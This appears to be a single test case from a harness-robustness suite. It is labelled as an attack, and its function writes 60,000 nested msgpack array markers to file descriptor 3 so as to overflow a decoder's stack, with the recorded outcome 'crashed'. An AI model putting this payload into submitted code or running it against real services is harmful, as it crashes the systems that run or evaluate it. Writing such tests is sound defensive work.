# /// attack
# does = "sends a message nested deeper than a decoder's stack"
# wall = "wire"
# outcome = "crashed"
# ///
# %% double
def double(x, label):
    import os, struct
    data = b"\x91" * 60_000
    os.write(3, struct.pack(">I", len(data)) + data)
    return 0 * x
